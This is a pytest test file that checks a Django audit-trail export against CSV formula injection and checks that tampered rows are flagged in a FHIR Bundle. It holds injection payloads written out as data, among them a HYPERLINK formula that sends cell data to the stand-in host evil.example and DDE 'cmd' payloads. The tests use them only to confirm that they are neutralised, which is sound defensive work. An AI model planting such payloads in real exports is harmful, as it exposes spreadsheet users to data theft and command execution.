"""Exports of the audit trail are safe to open and never fail on a bad row (issue 17,
findings 5 and 12): a user name typed at the sign-in form cannot become a spreadsheet
formula in the CSV, and a row tampered with past the application is flagged in the FHIR
Bundle instead of turning the export into a server error."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.contrib.auth.models import User
from django.db import connection
from django.test import Client
from fhir.resources.R4B.bundle import Bundle

from audit.exports import FLAG_INVALID, FLAG_SYSTEM
from audit.models import Action, AuditEvent
from audit.services import SYSTEM, Actor, record

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2&B2,"Open")'
# One payload per character a spreadsheet reads as the start of a formula (OWASP).
FORMULAS = (
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.fixture
def auditor(carol: User) -> Client:
    client = Client()
    client.force_login(carol)
    return client


def _csv_rows(auditor: Client) -> list[dict[str, str]]:
    response = auditor.get("/audit/events/export.csv")
    assert response.status_code == 200
    text = response.getvalue().decode()  # the whole streamed body
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_a_formula_typed_as_user_name_at_sign_in_is_text_in_the_csv_export(
    auditor: Client,
) -> None:
    response = Client().post("/accounts/login/", {"username": HYPERLINK, "password": "x"})
    assert response.status_code == 200  # the form again: the sign-in failed
    failed = [row for row in _csv_rows(auditor) if row["code"] == "login.failed"]
    assert [row["object_id"] for row in failed] == [f"'{HYPERLINK}"]


def test_no_csv_cell_starts_a_formula_whatever_column_it_is_in(auditor: Client) -> None:
    for payload in FORMULAS:
        record(
            actor=Actor(label=payload, role=payload[:20]),
            action=Action.EXECUTE,
            code=payload[:50],
            object_type=payload[:50],
            object_id=payload,
        )
    rows = _csv_rows(auditor)
    planted = {row["actor_label"][1:]: row for row in rows if row["actor_label"][1:] in FORMULAS}
    assert sorted(planted) == sorted(FORMULAS)
    for payload, row in planted.items():
        assert row["actor_label"] == row["object_id"] == f"'{payload}"
        assert row["role"] == f"'{payload[:20]}"  # the text as recorded, after the quote
        assert row["code"] == row["object_type"] == f"'{payload[:50]}"
    risky = [
        (column, cell)
        for row in rows
        for column, cell in row.items()
        if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    ]
    assert risky == []


def test_fhir_export_flags_a_tampered_row_and_exports_the_rest(auditor: Client) -> None:
    intact = record(actor=SYSTEM, action=Action.EXECUTE, code="test.intact")
    tampered = record(actor=SYSTEM, action=Action.EXECUTE, code="test.tampered")
    with connection.cursor() as cursor:
        # Past the append-only triggers, as the table's owner can (tests do not run as a
        # superuser on the embedded PostgreSQL, so session_replication_role is not theirs).
        cursor.execute("SET CONSTRAINTS ALL IMMEDIATE")  # no pending trigger events
        cursor.execute("ALTER TABLE audit_auditevent DISABLE TRIGGER USER")
        cursor.execute(
            "UPDATE audit_auditevent SET outcome = 'forged' WHERE id = %s", [tampered.id]
        )
        cursor.execute("ALTER TABLE audit_auditevent ENABLE TRIGGER USER")
    response = auditor.get("/audit/events/export.fhir.json")
    assert response.status_code == 200
    bundle = json.loads(response.content)
    Bundle.model_validate(bundle)
    events = {
        entry["resource"]["id"]: entry["resource"]
        for entry in bundle["entry"]
        if entry["resource"]["resourceType"] == "AuditEvent"
    }
    flagged = events[f"bedside-{tampered.id}"]
    assert flagged["meta"]["tag"] == [
        {
            "system": FLAG_SYSTEM,
            "code": FLAG_INVALID,
            "display": "the stored event is not a valid audit event; verify the chain",
        }
    ]
    assert "outcome" in flagged["outcomeDesc"].lower()
    assert '"outcome": "forged"' in flagged["entity"][0]["detail"][0]["valueString"]
    assert "meta" not in events[f"bedside-{intact.id}"]
    assert events[f"bedside-{intact.id}"]["outcome"] == "0"
    assert AuditEvent.objects.filter(code="export.created", object_id="fhir").count() == 1
